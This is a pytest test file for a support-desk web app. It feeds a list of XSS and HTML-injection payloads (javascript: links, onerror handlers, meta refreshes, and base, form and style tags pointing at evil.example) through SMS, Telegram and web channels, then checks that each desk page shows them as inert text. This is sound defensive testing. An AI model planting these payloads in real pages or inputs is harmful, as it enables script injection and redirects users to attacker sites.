"""Markup and script in whatever people, providers and colleagues send: stored as it came, shown as text everywhere."""

from __future__ import annotations

from html import unescape

import httpx
import pytest
from playwright.async_api import Page
from starlette.datastructures import FormData

from channels.conversation import Channel, Inbound, Media, Sender
from channels.ledger.records import Draft, OpenEscalation
from channels.ledger.talk_records import NoteKind
from channels.settings import Settings
from channels.sms.twilio import Twilio
from channels.telegram import Telegram
from tests.desk_builders import Browser, Office, staff_named
from tests.integration.test_desk_browser import base, page
from tests.integration.test_webchat_page import NASTY, elements
from tests.ledger_builders import answer

__all__ = ["base", "page"]
pytest_plugins = ["tests.desk_fixtures"]
MORE = (
    "<a href=javascript:alert(1)>x</a>", "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<template><img src=x onerror=alert(1)></template>", "<style>@import 'https://evil.example/x'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=p></form>", "\u202e<b>backwards</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "]]><!--<img src=x onerror=alert(1)>-->", "</script><script>alert(1)</script>",
    "<img src='https://evil.example/x.png'>",
)  # fmt: skip
VECTORS = (*NASTY, *MORE)


def as_twilio(settings: Settings, words: str, number: int) -> Inbound:
    live = settings.model_copy(update={"twilio_account_sid": "AC1"})
    form = {"MessageSid": f"SM{number:032d}", "AccountSid": "AC1", "From": "+447700900123", "To": "+447700900001"}
    return Twilio(live).parse_message(FormData({**form, "Body": words}))


def as_telegram(settings: Settings, words: str, number: int) -> Inbound:
    sender = {"id": 7, "is_bot": False, "first_name": words, "username": "x"}
    chat = {"id": 7, "type": "private", "first_name": words}
    message = {"message_id": number, "date": 1_700_000_000, "from": sender, "chat": chat, "text": words}
    parsed = Telegram(settings).parse({"update_id": number, "message": message})
    assert isinstance(parsed, Inbound)
    return parsed


def as_web(_settings: Settings, words: str, number: int) -> Inbound:
    return Inbound(channel=Channel.WEB, address="v", provider_id=str(number), text=words)


async def told(office: Office, settings: Settings, channel: str) -> str:
    """Somebody who sends every one of them over a channel, and asks for a person. Gives the conversation."""
    parse = {"sms": as_twilio, "telegram": as_telegram, "web": as_web}[channel]
    for number, words in enumerate(VECTORS, 1):
        stored = await office.ledger.store_inbound(parse(settings, words, number))
        ask = OpenEscalation(reason="asked") if number == len(VECTORS) else None
        said = Draft(sender=Sender.ASSISTANT, text=words)
        committed = await answer(office.ledger, stored, said, needs=(words,), place=words, escalation=ask)
    assert committed.escalation_id is not None
    await office.escalations.announce(committed.escalation_id)
    return stored.conversation_id


@pytest.mark.parametrize("channel", ["sms", "telegram", "web"])
async def test_what_people_send_is_words_on_every_page_of_the_desk(
    office: Office, jo: Browser, settings: Settings, channel: str
) -> None:
    live = settings.model_copy(update={"telegram_token": type(settings.telegram_token)("1:t")})
    conversation_id = await told(office, live, channel)
    robin = await office.sit_down("Robin", "coordinator")
    person_id = (await office.ledger.conversation(conversation_id)).person_id
    here = f"/desk/conversations/{conversation_id}"
    pages = [await jo.get("/desk"), await jo.get("/desk/queue"), await jo.get(here), await jo.get(f"{here}/log")]
    pages += [await robin.post(f"/desk/rights/{person_id}/export", as_="page")]
    for shown in pages:
        assert shown.status_code == 200
        assert nothing_came_alive(shown.text) == []
    read = unescape(pages[2].text)
    assert not [words for words in VECTORS if words not in read], "they are all there, as they were sent"


OURS = "/desk/"
"""Where our own frame, which keeps a conversation on a page without scripts, leads."""
NEVER_DRAWN = {"svg", "math", "img", "style", "base", "object", "embed", "b", "template"}
LEADS = ("href", "src", "action", "formaction")


def nothing_came_alive(html: str) -> list[str]:
    """What a browser would make of somebody's words, if it made anything of them."""
    found = elements(httpx.Response(200, text=html))
    alive = [tag for tag, _ in found if tag in NEVER_DRAWN]
    alive += [tag for tag, attributes in found if tag == "iframe" and not attributes.get("src", "").startswith(OURS)]
    alive += [f"{tag} {name}" for tag, attributes in found for name in attributes if name.startswith("on")]
    led = [attributes.get(name, "").strip().lower() for _, attributes in found for name in LEADS]
    alive += [each for each in led if "evil.example" in each or each.startswith(("javascript:", "data:"))]
    alive += [str(attributes) for tag, attributes in found if tag == "script" and "src" not in attributes]
    return alive


async def test_what_colleagues_write_beside_it_is_words_too(office: Office, jo: Browser, settings: Settings) -> None:
    conversation_id = await told(office, settings, "web")
    peer = await staff_named(office, "Jo")
    here = f"/desk/conversations/{conversation_id}"
    await jo.post(f"{here}/take")
    for words in VECTORS:
        await office.ledger.talk.add(conversation_id, NoteKind.NOTE, peer.id, {"text": words})
        await jo.post(f"{here}/snooze", minutes="5", reason=words)
        await jo.post(f"{here}/summary", summary=words)
        page = await jo.post(f"{here}/reply", text=words, read="1")
        assert nothing_came_alive(page.text) == []
    await jo.post(f"{here}/draft", text=VECTORS[-1])
    for path in ("/desk", "/desk/for-you", here):
        assert nothing_came_alive((await jo.get(path)).text) == []


async def test_what_a_provider_says_of_a_file_or_a_link_is_words_too(office: Office, jo: Browser) -> None:
    words = VECTORS[0]
    media = (Media(kind="picture", reference="https://api.twilio.com/x", content_type=words),)
    inbound = Inbound(
        channel=Channel.TELEGRAM, address="7", provider_id="1", text="hi", media=media, language=words, came_from=words
    )
    stored = await office.ledger.store_inbound(inbound)
    await answer(office.ledger, stored, escalation=OpenEscalation(reason=words))
    page = await jo.get(f"/desk/conversations/{stored.conversation_id}")
    assert words in unescape(page.text)
    assert nothing_came_alive(page.text) == []


@pytest.mark.browser
async def test_in_a_browser_none_of_it_runs_loads_or_leads_away(office: Office, page: Page, settings: Settings) -> None:
    asked: list[str] = []
    here = page.url.split("/desk")[0]
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
    conversation_id = await told(office, settings, "web")
    await page.goto(f"/desk/conversations/{conversation_id}")
    await page.wait_for_selector(".log > li")
    assert await page.evaluate("document.querySelectorAll('.bubble *').length") == 0
    assert await page.locator(".bubble").count() >= len(VECTORS)
    assert not [url for url in asked if not url.startswith(here)]
